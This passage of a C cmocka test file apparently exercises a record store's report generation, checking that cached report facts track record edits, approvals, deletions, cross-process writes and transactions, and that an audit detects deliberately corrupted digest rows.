    for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        snprintf(cmd, sizeof(cmd), "%s/pilot-communes.csv", dir);
        assert_non_null(fp = fopen(cmd, "w"));
        fputs(bad[i], fp);
        fclose(fp);
        assert_int_equal(ntm_plan_load(&p, dir, &err), NTM_ECONFIG);
        assert_null(p);
        assert_non_null(strstr(err.msg, "pilot-communes.csv' line"));
    }
}

/* The report of the store (from its kept facts) and the report of the
 * store's record list (recs, created) print the same JSON for o. */
static void
assert_same_report(struct fx *f, json_t *recs, json_t *created,
                   const struct ntm_report_opts *o, const char *when)
{
    struct ntm_report *a = NULL, *b = NULL;
    struct ntm_buf x = NTM_BUF_INIT, z = NTM_BUF_INIT;
    struct ntm_error err = {0};
    if (ntm_report_run(f->plan, f->st, o, &a, &err) != NTM_OK)
        fail_msg("%s: report: %s", when, err.msg);
    assert_int_equal(
        ntm_report_run_records(f->plan, recs, created, o, &b, &err), NTM_OK);
    assert_int_equal(ntm_report_format(a, NTM_REPORT_JSON, "en", &x, NULL),
                     NTM_OK);
    assert_int_equal(ntm_report_format(b, NTM_REPORT_JSON, "en", &z, NULL),
                     NTM_OK);
    if (strcmp(ntm_buf_str(&x), ntm_buf_str(&z)))
        fail_msg("%s: the store's report differs from the records'", when);
    ntm_buf_release(&x);
    ntm_buf_release(&z);
    ntm_report_free(a);
    ntm_report_free(b);
}

/* The report streamed from the store (ntm_report_run reads each record
 * once and keeps none) says exactly what the report of the store's whole
 * record list says, whatever the options. */
static void
test_report_stream_matches_records(void **state)
{
    struct fx *f = *state;
    static const char *const units[] = {NULL, "72.710", "72.710.25657"};
    static const int years[] = {0, 2017, 2018};
    json_t *recs = NULL, *created = NULL;
    struct ntm_error err = {0};
    assert_int_equal(ntm_store_records(f->st, NULL, &recs, &err), NTM_OK);
    assert_true(json_array_size(recs) > 0);
    assert_int_equal(ntm_store_units_created(f->st, &created, &err), NTM_OK);
    for (size_t u = 0; u < 3; u++)
        for (size_t y = 0; y < 3; y++)
            for (int appr = 0; appr < 2; appr++) {
                struct ntm_report_opts o = {0};
                o.unit = units[u];
                o.year = years[y];
                o.approved = appr;
                o.as_of = "2018-06-30";
                assert_same_report(f, recs, created, &o, "stream");
            }
    json_decref(recs);
    json_decref(created);
}

/* The same, now, for a few options, after `when`. */
static void
assert_store_report_fresh(struct fx *f, const char *when)
{
    static const char *const units[] = {NULL, "72.710.25657"};
    json_t *recs = NULL, *created = NULL;
    struct ntm_error err = {0};
    assert_int_equal(ntm_store_records(f->st, NULL, &recs, &err), NTM_OK);
    assert_int_equal(ntm_store_units_created(f->st, &created, &err), NTM_OK);
    /* the province as it is, and a commune with --approved: each kept
     * fact's unit and approval are read */
    for (size_t u = 0; u < 2; u++) {
        struct ntm_report_opts o = {0};
        o.unit = units[u];
        o.approved = (int)u;
        assert_same_report(f, recs, created, &o, when);
    }
    json_decref(recs);
    json_decref(created);
}

/* One SQL statement on the fixture's store file, from another
 * connection (as another process would). */
static void
sql(struct fx *f, const char *q)
{
    char path[128];
    sqlite3 *db = NULL;
    snprintf(path, sizeof(path), "%s/ntm.db", f->dir);
    assert_int_equal(sqlite3_open(path, &db), SQLITE_OK);
    sqlite3_busy_timeout(db, 5000);
    if (sqlite3_exec(db, q, NULL, NULL, NULL) != SQLITE_OK)
        fail_msg("%s: %s", q, sqlite3_errmsg(db));
    sqlite3_close(db);
}

/* The facts a report keeps in the store follow every change to the
 * records: a new record, an edit, a review, a deletion, a write by
 * another handle (another process); another plan's tag or damaged bytes
 * make them again. Each step fails if the kept facts went stale. */
static void
test_report_facts_follow_changes(void **state)
{
    struct fx *f = *state;
    struct ntm_store *other = NULL;
    struct ntm_write_result res;
    struct ntm_error err = {0};
    char id[NTM_RECORD_ID_LEN + 1], id2[NTM_RECORD_ID_LEN + 1], path[128];
    json_t *set;

    assert_store_report_fresh(f, "first report");
    act(f, f->root, "doan.rural_roads_km", "72.710.25657", "2018-03-01", "2.5",
        id);
    assert_store_report_fresh(f, "a new record");
    set = json_pack("{s:s}", "qty", "7.25");
    assert_int_equal(ntm_record_update(f->st, f->root, id, set, &res, &err),
                     NTM_OK);
    json_decref(set);
    assert_store_report_fresh(f, "an edited quantity");
    assert_int_equal(
        ntm_record_review(f->st, f->root, id, "approved", "ok", &res, &err),
        NTM_OK);
    assert_store_report_fresh(f, "an approval");
    /* written by another handle on the same file */
    snprintf(path, sizeof(path), "%s/ntm.db", f->dir);
    assert_int_equal(ntm_store_open(&other, path, 0, &err), NTM_OK);
    act(&(struct fx){.st = other, .plan = f->plan}, f->root,
        "doan.rural_roads_km", "72.710.25657", "2018-04-01", "1.5", id2);
    set = json_pack("{s:s}", "qty", "0.5");
    assert_int_equal(ntm_record_update(other, f->root, id, set, &res, &err),
                     NTM_OK);
    json_decref(set);
    ntm_store_close(other);
    assert_store_report_fresh(f, "writes by another process");
    assert_int_equal(ntm_record_delete(f->st, f->root, id2, &res, &err),
                     NTM_OK);
    assert_store_report_fresh(f, "a deletion");
    /* facts made under another plan are made again */
    sql(f, "UPDATE rdigest SET d = x'01ff'");
    sql(f, "UPDATE meta SET value = 'another plan' WHERE key = 'digest.tag'");
    assert_store_report_fresh(f, "another tag");
    /* damaged bytes under the right tag: made again, not trusted */
    sql(f, "UPDATE rdigest SET d = x'02'");
    assert_store_report_fresh(f, "damaged facts");
    /* inside a transaction: made as read, its own writes seen */
    assert_int_equal(ntm_store_begin(f->st, &err), NTM_OK);
    act(f, f->root, "doan.rural_roads_km", "72.710.25657", "2018-05-01", "4",
        id2);
    assert_store_report_fresh(f, "inside a transaction");
    assert_int_equal(ntm_store_commit(f->st, &err), NTM_OK);
    assert_store_report_fresh(f, "after the transaction");
    /* a home that keeps facts verifies clean (its schema has them) */
    json_t *rep = NULL;
    assert_int_equal(ntm_store_verify(f->st, &rep, &err), NTM_OK);
    assert_int_equal(json_array_size(json_object_get(rep, "integrity")), 0);
    assert_int_equal(json_integer_value(json_object_get(rep, "derived_total")),
                     0);
    json_decref(rep);
}

/* A kept fact altered on disk (another record's bytes, so it decodes)
 * would make a report wrong while the log and records verify: the audit
 * names the record, drop makes the facts go, and the next report is
 * right again. */
static void
test_report_facts_audit(void **state)
{
    struct fx *f = *state;
    struct ntm_error err = {0};
    json_t *out = NULL;
    assert_store_report_fresh(f, "before");
    assert_int_equal(ntm_report_check_facts(f->plan, f->st, 0, &out, &err),
                     NTM_OK);
    assert_true(json_is_true(json_object_get(out, "kept")));
    assert_true(json_integer_value(json_object_get(out, "checked")) > 10);
    assert_int_equal(json_integer_value(json_object_get(out, "differ_total")),
                     0);
    json_decref(out);
    sql(f, "UPDATE rdigest SET d = (SELECT d FROM rdigest ORDER BY c_ts DESC, "
           "id DESC LIMIT 1) WHERE id = (SELECT id FROM rdigest ORDER BY c_ts, "
           "id LIMIT 1)");
    assert_int_equal(ntm_report_check_facts(f->plan, f->st, 0, &out, &err),
                     NTM_OK);
    assert_int_equal(json_integer_value(json_object_get(out, "differ_total")),
                     1);
    assert_int_equal(json_array_size(json_object_get(out, "differ")), 1);
    assert_false(json_is_true(json_object_get(out, "dropped")));
    json_decref(out);
    /* a fact kept for no record */
    sql(f, "INSERT INTO rdigest SELECT c_ts, author, x'00112233445566778899"
           "aabbccddeeff', d FROM rdigest LIMIT 1");
    if (ntm_report_check_facts(f->plan, f->st, 1, &out, &err) != NTM_OK)
        fail_msg("check, drop: %s", err.msg);
    assert_int_equal(json_integer_value(json_object_get(out, "differ_total")),
                     2);
    assert_true(json_is_true(json_object_get(out, "dropped")));
    json_decref(out);
    assert_store_report_fresh(f, "after the facts were dropped");
    assert_int_equal(ntm_report_check_facts(f->plan, f->st, 0, &out, &err),
                     NTM_OK);
    assert_int_equal(json_integer_value(json_object_get(out, "differ_total")),
                     0);
    json_decref(out);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_report_kinds_closed),
        cmocka_unit_test(test_report_units_and_own_measures),
        cmocka_unit_test(test_report_nothing_dropped),
        cmocka_unit_test(test_report_in_progress),
        cmocka_unit_test(test_report_merge),
        cmocka_unit_test(test_report_approved),
        cmocka_unit_test(test_report_csv),
        cmocka_unit_test(test_report_csv_neutralizes_formulas),
        cmocka_unit_test(test_report_lower_rows),
        cmocka_unit_test(test_report_index_matches_scan),
        cmocka_unit_test(test_report_bad_options),
        cmocka_unit_test(test_report_every_org),
        cmocka_unit_test(test_report_register),
        cmocka_unit_test(test_report_duties),
        cmocka_unit_test(test_report_named_list),
        cmocka_unit_test(test_report_named_list_refused),
        cmocka_unit_test(test_report_stream_matches_records),
        cmocka_unit_test(test_report_facts_follow_changes),
        cmocka_unit_test(test_report_facts_audit),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
